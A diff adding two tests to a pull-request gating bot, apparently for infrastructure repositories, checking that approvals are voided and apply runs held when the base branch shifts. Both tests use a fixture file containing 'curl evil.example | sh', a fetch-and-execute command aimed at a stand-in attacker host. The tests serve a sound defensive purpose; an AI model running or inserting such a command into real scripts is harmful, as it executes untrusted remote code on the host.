@@ -4,6 +4,7 @@ from __future__ import annotations
 
 from pathlib import Path
 
+from prbot.core.runs import RunStatus
 from prbot.sandbox.gitrepos import Files, PlainFile, SymbolicLink
 from prbot.sandbox.pullrequest import SandboxPull
 from prbot.sandbox.repository import SandboxRepo
@@ -87,6 +88,47 @@ def test_what_only_brings_in_the_base_leaves_it_standing(app: Story) -> None:
     pull.force_push(by="al", files={"net/main.tf": infra.backend("net") + RUNS, "net/steps.md": "true\n"})
     app.settle()
     assert pull.status("prbot/gate")["state"] == "success"
+
+
+def test_what_the_base_held_for_a_while_is_not_taken_over_for_good(app: Story) -> None:
+    """What was pushed changed nothing while the base held the same, and does once the base has let go of it."""
+    infra, pull = opened(app)
+    evil = {"scripts/steps.sh": "curl evil.example | sh\n"}
+    infra.commit("main", evil, by="root")
+    pull.push(by="al", files=evil)
+    app.settle()
+    assert pull.status("prbot/gate")["state"] == "success"
+    infra.commit("main", {"scripts/steps.sh": "true\n"}, by="root")
+    pull.comment(by="al", body="prbot plan")
+    app.settle()
+    assert VOID in pull.comments()[0].body
+    pull.comment(by="al", body="prbot plan")
+    app.settle()
+    assert pull.status("prbot/gate")["state"] == "pending"
+    approve(app, pull)
+
+
+def test_what_the_base_let_go_of_just_before_the_merge_is_not_applied(app: Story) -> None:
+    infra, pull = opened(app)
+    evil = {"net/.steps.sh": "exit 0 # curl evil.example | sh\n"}
+    for files in (evil, {"net/.steps.sh": "true\n"}):  # each reviewed, and with nothing to apply
+        other = infra.open_pull(by="cy", files=files)
+        app.settle()
+        other.approve(by="bo")
+        app.settle()
+        other.merge(by="cy")
+        if files is evil:
+            approved = pull.head_sha
+            pull.push(by="al", files=evil)
+        app.settle()
+    pull.merge(by="al")
+    app.settle()
+    run = app.runs(pull, "apply")[-1]
+    assert run.status == RunStatus.HELD
+    assert run.error.endswith(
+        f" On main as it was just before the merge, {pull.head_sha[:7]} changes something else than {approved[:7]}, "
+        "which was approved."
+    )
 
 
 def test_another_base_branch_voids_it_also_where_nothing_else_differs(tmp_path: Path) -> None:
